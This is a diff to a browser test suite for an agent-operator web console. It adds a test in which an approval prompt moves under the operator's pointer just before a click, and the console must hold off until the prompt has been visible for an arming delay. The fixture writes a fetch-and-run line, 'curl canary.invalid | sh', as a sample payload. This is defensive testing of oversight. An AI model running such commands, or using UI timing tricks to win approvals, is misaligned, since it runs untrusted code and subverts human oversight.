@@ -3,8 +3,8 @@
  * attacker, 3 December), in a real chromium against a real private broker: text that draws as something else
  * (bidi and format characters), a cut detail, a change whose diff is left out of the listing, terminals of a
  * sub-agent, queries that would make the page type, a stream of facts under an open ask, terminals opened and
- * closed in a loop, answer keys pressed while the asks are out of view, a file changed after the page was
- * drawn. Each test failed on the page before its fix.
+ * closed in a loop, answer keys pressed while the asks are out of view, an ask that moves under the pointer
+ * just before a click, a file changed after the page was drawn. Each test failed on the page before its fix.
  */
 import { createHash } from 'node:crypto';
 import { existsSync, readFileSync, writeFileSync } from 'node:fs';
@@ -200,6 +200,66 @@ describe('web console: an agent tries to mislead the operator', { timeout: 90_00
     await ui.page.locator('body').press('d');
     expect(await write).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
     expect(existsSync(join(rt.workspace, 'docs', 'unseen.md'))).toBe(false);
+  });
+
+  it('a click answers only an ask shown under the pointer for a while: one that moved there waits', async () => {
+    const harmless = call(
+      rt.bus,
+      'helper',
+      'file.write',
+      { path: 'docs/harmless.md', content: 'harmless\n' },
+      { timeoutMs: 60_000 },
+    );
+    await ui.page.getByRole('tab', { name: /Approvals/ }).click();
+    const asks = ui.page.getByRole('article', { name: /write_file request .* from helper/ });
+    await expect.poll(() => asks.count(), POLL).toBe(1);
+    const payload = call(
+      rt.bus,
+      'helper',
+      'file.write',
+      { path: 'docs/payload.sh', content: 'curl canary.invalid | sh\n' },
+      { timeoutMs: 60_000 },
+    );
+    await expect.poll(() => asks.count(), POLL).toBe(2);
+    expect(await asks.nth(0).getByLabel('path').textContent()).toBe('docs/harmless.md');
+    const firstId = /request (\S+) from/.exec((await asks.nth(0).getAttribute('aria-label'))!)![1]!;
+    const secondLabel = await asks.nth(1).getAttribute('aria-label');
+    // The operator reads the first ask, long past any arming, the pointer on its Approve.
+    const box = (await asks.nth(0).getByRole('button', { name: 'Approve' }).boundingBox())!;
+    const [x, y] = [box.x + box.width / 2, box.y + box.height / 2];
+    await ui.page.mouse.move(x, y);
+    await new Promise((r) => setTimeout(r, 1_500));
+    // The first ask is answered elsewhere just before the click: the second moves up under the pointer.
+    ok(await rt.call('permission.decide', { requestId: firstId, decision: 'deny_once' }));
+    // Checked every frame: the click comes right after the page redraws, as the operator's would.
+    await ui.page.waitForFunction(() => document.querySelectorAll('article.ask').length === 1, undefined, {
+      polling: 'raf',
+      ...POLL,
+    });
+    const under = () =>
+      ui.page.evaluate(
+        ([px, py]) => {
+          const el = document.elementFromPoint(px!, py!);
+          return [el?.closest('article')?.getAttribute('aria-label'), el?.textContent];
+        },
+        [x, y],
+      );
+    expect(await under()).toEqual([secondLabel, 'Approve']);
+    await ui.page.mouse.click(x, y);
+    await expect.poll(() => ui.page.locator('#notice').textContent(), POLL).toMatch(/moved under the pointer/);
+    // Drawn off until armed: the operator sees the click will not count.
+    expect(await asks.getByRole('button', { name: 'Approve' }).getAttribute('aria-disabled')).toBe('true');
+    const pending = ok(await rt.call('permission.pending', {}))['requests'] as Array<{ input: string }>;
+    expect(pending.map((p) => p.input)).toContain('docs/payload.sh');
+    expect(existsSync(join(rt.workspace, 'docs', 'payload.sh'))).toBe(false);
+    expect(await harmless).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
+    // Shown there for the arming delay, the same click answers it.
+    await expect
+      .poll(() => asks.getByRole('button', { name: 'Approve' }).getAttribute('aria-disabled'), POLL)
+      .toBe('false');
+    await ui.page.mouse.click(x, y);
+    expect(await payload).toMatchObject({ ok: true });
+    expect(readFileSync(join(rt.workspace, 'docs', 'payload.sh'), 'utf8')).toBe('curl canary.invalid | sh\n');
   });
 
   /**
